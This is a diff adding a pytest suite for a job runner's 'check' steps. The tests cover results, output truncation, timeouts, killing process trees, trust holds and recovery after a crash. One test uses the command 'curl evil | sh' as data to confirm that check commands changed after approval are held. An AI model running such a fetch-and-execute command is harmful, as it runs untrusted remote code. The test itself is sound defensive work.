@@ -1,0 +1,329 @@
+"""A check from its claim to its record: its result, its limits, and a kill at each step."""
+
+import os
+import signal
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+
+import msgspec
+import pytest
+from attempt_cases import is_running, wait_until
+from msgspec import UNSET
+from step_cases import CheckSite
+from watch_cases import ME, WatchSite
+
+from sow.ids import WorkerId
+from sow.jobs import jobs, leases
+from sow.schema.causes import Cause
+from sow.schema.job import JobState
+from sow.schema.step_result import StepResult
+from sow.schema.task import TaskStatus
+from worker.adopt import adopt
+from worker.holding import release_if_trusted
+from worker.step_end import result_of
+
+OTHER = WorkerId("w2-bbbbbb")
+SAY_PID = "echo $$ >.x; mv .x {0}; "
+
+
+@pytest.fixture
+def checks(site: WatchSite) -> Iterator[CheckSite]:
+    made = CheckSite(site, unit="echo hello", lint="printf '\\033[31mred\\033[0m\\n'; exit 3")
+    yield made
+    made.close()
+
+
+def test_a_check_that_passes_stands_in_the_record_of_its_task(checks: CheckSite) -> None:
+    job = checks.run("unit")
+    assert (job.state, job.cause, job.reason) == (JobState.DONE, Cause.PASSED, "")
+    found = checks.check()
+    assert found["passed"] is True
+    (result,) = found["results"]
+    assert (result["name"], result["exit_code"], result["lines"]) == ("unit", 0, [])
+    paths = checks.site.workspace.attempt(job.id, 1)
+    assert paths.check_log("unit").read_text() == "hello\n"
+    assert paths.check_log("unit").stat().st_mode & 0o777 == 0o600
+    assert paths.result.stat().st_mode & 0o777 == 0o600
+
+
+def test_a_red_check_fails_its_job_and_leaves_the_status_alone(checks: CheckSite) -> None:
+    checks.site.change_task(status=TaskStatus.NEEDS_REVIEW)
+    job = checks.run("lint", "unit")
+    assert (job.state, job.cause) == (JobState.FAILED, Cause.CHECK_FAILED)
+    assert job.reason.splitlines() == ["lint: exit code 3", "  lint | red"]
+    task = checks.site.task()
+    assert task.status is TaskStatus.NEEDS_REVIEW
+    found = checks.check()
+    assert [(one["name"], one["passed"]) for one in found["results"]] == [
+        ("lint", False),
+        ("unit", True),
+    ]
+    assert found["results"][0]["lines"] == ["red"], "no colour comes along"
+
+
+def test_the_last_lines_of_a_red_check_are_kept_and_no_more(checks: CheckSite) -> None:
+    checks.write(long="i=0; while [ $i -lt 500 ]; do echo line $i; i=$((i+1)); done; exit 1")
+    checks.trust()
+    checks.run("long")
+    lines = checks.check()["results"][0]["lines"]
+    assert lines == [f"line {number}" for number in range(480, 500)]
+
+
+def test_what_a_command_leaves_running_has_gone_before_the_next_begins(checks: CheckSite) -> None:
+    leaves = "(sleep 1000 & echo $! >.x; mv .x left); setsid sleep 1000 & echo $! >other"
+    looks = "for f in left other; do kill -0 $(cat $f) 2>/dev/null && exit 9; done; exit 0"
+    checks.write(leaves=leaves, looks=looks)
+    checks.trust()
+    job = checks.run("leaves", "looks")
+    assert job.state is JobState.DONE, job.reason
+
+
+def test_a_command_that_takes_too_long_is_ended_with_its_tree(checks: CheckSite) -> None:
+    checks.write(
+        slow={"run": "sleep 1000 & echo $! >.x; mv .x left; echo begun; wait", "timeout": "2s"},
+        unit="echo hello",
+    )
+    checks.trust()
+    job = checks.run("slow", "unit")
+    slow, unit = checks.check()["results"]
+    assert "took longer than 2s" in slow["reason"]
+    assert (slow["exit_code"], slow["lines"], unit["passed"]) == (None, ["begun"], True)
+    assert not is_running(int(checks.file("left").read_text()))
+    assert job.cause is Cause.CHECK_FAILED
+
+
+def test_the_commit_that_was_judged_is_told_and_whether_files_differed(checks: CheckSite) -> None:
+    def git(*words: str) -> str:
+        person = ["-c", "user.name=n", "-c", "user.email=e", "-c", "commit.gpgsign=false"]
+        argv = ["git", *person, *words]
+        return subprocess.check_output(argv, cwd=checks.file("."), text=True).strip()
+
+    git("init", "-q")
+    checks.file("a").write_text("a")
+    git("add", "a", ".sow/config.yaml")
+    git("commit", "-qm", "first")
+    checks.run("unit")
+    assert checks.check()["commit"] == git("rev-parse", "HEAD")
+    assert checks.check()["dirty"] is False, "the project's own state is not what is judged"
+    checks.file("a").write_text("b")
+    checks.run("unit")
+    assert checks.check()["dirty"] is True
+
+
+def test_without_git_no_commit_is_told(checks: CheckSite) -> None:
+    checks.run("unit")
+    assert checks.check()["commit"] is None
+
+
+def test_a_check_of_the_project_has_no_task(checks: CheckSite) -> None:
+    before = checks.site.state_file().read_bytes()
+    assert checks.run("unit", task="").state is JobState.DONE
+    assert checks.run("lint", task="").reason.startswith("lint: exit code 3")
+    assert checks.site.state_file().read_bytes() == before
+
+
+def test_a_name_that_is_no_check_any_more_fails_the_job_and_not_the_task(checks: CheckSite) -> None:
+    job = checks.place("unit")
+    checks.write(lint="true")
+    checks.trust()
+    assert checks.start(job) is None
+    ended = checks.site.get(job)
+    assert ended.state is JobState.FAILED
+    assert "no such check: unit" in ended.reason
+    assert checks.site.task().status is TaskStatus.PENDING
+
+
+def test_a_command_of_a_check_has_no_rights_in_sow(checks: CheckSite) -> None:
+    checks.write(unit="env >seen")
+    checks.trust()
+    checks.run("unit")
+    lines = checks.file("seen").read_text().splitlines()
+    assert "SOW_AGENT=sow-step" in lines
+    assert "SOW_JOB_ID=1" in lines
+
+
+def test_what_nobody_has_accepted_is_held_and_goes_on_once_it_is(checks: CheckSite) -> None:
+    checks.write(unit="echo other")
+    job = checks.place("unit")
+    assert checks.start(job) is None
+    held = checks.site.get(job)
+    assert held.state is JobState.HELD
+    assert "sow trust" in held.reason
+    assert leases.lease_of(checks.site.database, job.id) is None
+    assert not jobs.has_active_jobs(checks.site.database), "it keeps no worker alive"
+    release_if_trusted(checks.site.context)
+    assert checks.site.get(job).state is JobState.HELD
+    checks.trust()
+    release_if_trusted(checks.site.context)
+    assert checks.site.get(job).state is JobState.QUEUED
+    running = checks.start(job)
+    assert running is not None
+    assert checks.watched(running).state is JobState.DONE
+
+
+def test_a_text_that_changes_after_it_was_accepted_is_held_again(checks: CheckSite) -> None:
+    assert checks.run("unit").state is JobState.DONE
+    checks.write(unit="echo hello", lint="curl evil | sh")
+    job = checks.place("unit")
+    assert checks.start(job) is None
+    assert "have changed since" in checks.site.get(job).reason
+
+
+def test_a_word_that_was_said_a_moment_too_early_is_heard(
+    checks: CheckSite, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """`sow trust` comes between the look and the commit that holds the job: none waits for ever."""
+    checks.write(unit="echo other")
+    job = checks.place("unit")
+    before = leases.hold
+
+    def hold(*arguments: object, **more: object) -> None:
+        checks.trust()
+        before(*arguments, **more)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(leases, "hold", hold)
+    checks.start(job)
+    assert checks.site.get(job).state is JobState.QUEUED
+
+
+def test_a_held_job_whose_end_is_asked_for_ends(checks: CheckSite) -> None:
+    checks.write(unit="echo other")
+    job = checks.place("unit")
+    jobs.change_job(checks.site.database, job.id, cancel_requested_at=1.0)
+    checks.start(job)
+    assert checks.site.get(job).state is JobState.CANCELLED
+
+
+def test_a_check_that_is_cancelled_leaves_nothing_running_and_no_record(checks: CheckSite) -> None:
+    checks.write(unit=SAY_PID.format("begun") + "sleep 1000")
+    checks.trust()
+    job = checks.place("unit")
+    running = checks.start(job)
+    assert running is not None
+    wait_until(checks.file("begun").exists)
+    jobs.change_job(checks.site.database, job.id, cancel_requested_at=1.0)
+    ended = checks.watched(running)
+    assert ended.state is JobState.CANCELLED
+    assert checks.site.task().check is UNSET
+    assert checks.site.task().status is TaskStatus.PENDING
+    assert not is_running(int(checks.file("begun").read_text()))
+
+
+TWICE = "test -e again || { touch again; " + SAY_PID.format("begun") + "sleep 1000; }"
+"""A command that hangs the first time it is run, and passes the second."""
+
+
+def test_a_program_that_is_killed_is_run_again_and_nothing_runs_twice(checks: CheckSite) -> None:
+    checks.write(unit=TWICE)
+    checks.trust()
+    job = checks.place("unit")
+    running = checks.start(job)
+    assert running is not None
+    first = int(_read(checks.file("begun")))
+    os.kill(checks.site.attempts[-1].agent_pid(), signal.SIGKILL)
+    assert checks.watched(running, until=JobState.BACKOFF).cause is Cause.CRASHED
+    assert not is_running(first)
+    again = checks.start(job)
+    assert again is not None
+    assert checks.watched(again).state is JobState.DONE
+    assert checks.check()["passed"] is True
+
+
+def test_without_its_supervisor_a_check_goes_on_and_its_result_counts(checks: CheckSite) -> None:
+    checks.write(unit=SAY_PID.format("begun") + "while ! test -e go; do sleep 0.05; done")
+    checks.trust()
+    job = checks.place("unit")
+    running = checks.start(job)
+    assert running is not None
+    _read(checks.file("begun"))
+    assert running.process is not None
+    running.process.kill()
+    running.process.wait()
+    checks.file("go").touch()
+    assert checks.watched(running).cause is Cause.PASSED
+    assert len(jobs.attempts(checks.site.database, job.id)) == 1
+
+
+def test_when_all_of_it_is_killed_it_is_run_again(checks: CheckSite) -> None:
+    checks.write(unit=TWICE)
+    checks.trust()
+    job = checks.place("unit")
+    running = checks.start(job)
+    assert running is not None
+    command = int(_read(checks.file("begun")))
+    program = checks.site.attempts[-1].agent_pid()
+    assert running.process is not None
+    running.process.kill()
+    running.process.wait()
+    for pid in (program, command):
+        os.kill(pid, signal.SIGKILL)
+    for pid in checks.site.attempts[-1].carriers():
+        os.kill(pid, signal.SIGKILL)
+    checks.watched(running, until=JobState.QUEUED)
+    assert checks.site.last_attempt(job).cause is Cause.WORKER_DIED
+    again = checks.start(job)
+    assert again is not None
+    assert checks.watched(again).state is JobState.DONE
+
+
+@pytest.mark.parametrize("settled", ["nothing", "the cause"])
+def test_a_worker_that_dies_after_the_end_leaves_it_to_the_next(
+    checks: CheckSite, settled: str
+) -> None:
+    job = checks.place("lint")
+    running = checks.start(job)
+    assert running is not None
+    wait_until(running.paths.exit.exists)
+    if settled == "the cause":
+        verdict = {"cause": Cause.CHECK_FAILED, "reason": "lint: exit code 3"}
+        jobs.change_attempt(checks.site.database, job.id, 1, **verdict)
+    leases.take_over(checks.site.database, ME, OTHER, now=checks.site.context.now())
+    (lease,) = leases.leases_of(checks.site.database, OTHER)
+    adopted = adopt(checks.site.context, lease)
+    assert adopted is not None
+    assert checks.watched(adopted).cause is Cause.CHECK_FAILED
+    assert checks.check()["passed"] is False
+    assert len(jobs.attempts(checks.site.database, job.id)) == 1
+
+
+def test_a_worker_that_is_stopped_has_the_check_run_again(checks: CheckSite) -> None:
+    checks.write(unit=TWICE)
+    checks.trust()
+    job = checks.place("unit")
+    running = checks.start(job)
+    assert running is not None
+    _read(checks.file("begun"))
+    monitor = checks.watch(running)
+    monitor.end_all()
+    assert monitor.wait_until_idle(30.0)
+    monitor.stop()
+    assert checks.site.get(job).state is JobState.QUEUED
+    again = checks.start(job)
+    assert again is not None
+    assert checks.watched(again).state is JobState.DONE
+
+
+def test_a_broken_result_is_none(checks: CheckSite) -> None:
+    job = checks.place("unit")
+    running = checks.start(job)
+    assert running is not None
+    wait_until(running.paths.exit.exists)
+    assert result_of(running) is not None
+    running.paths.result.write_bytes(msgspec.json.encode(StepResult(cause=Cause.PASSED))[:-4])
+    assert result_of(running) is None
+    assert checks.watched(running, until=JobState.BACKOFF).cause is Cause.CRASHED
+
+
+def test_a_task_that_is_gone_ends_its_check_as_failed(checks: CheckSite) -> None:
+    job = checks.place("unit")
+    running = checks.start(job)
+    assert running is not None
+    checks.site.state_file().unlink()
+    ended = checks.watched(running)
+    assert (ended.state, ended.owes_task) == (JobState.FAILED, False)
+
+
+def _read(path: Path) -> str:
+    wait_until(path.exists, f"{path.name} is written")
+    return path.read_text()
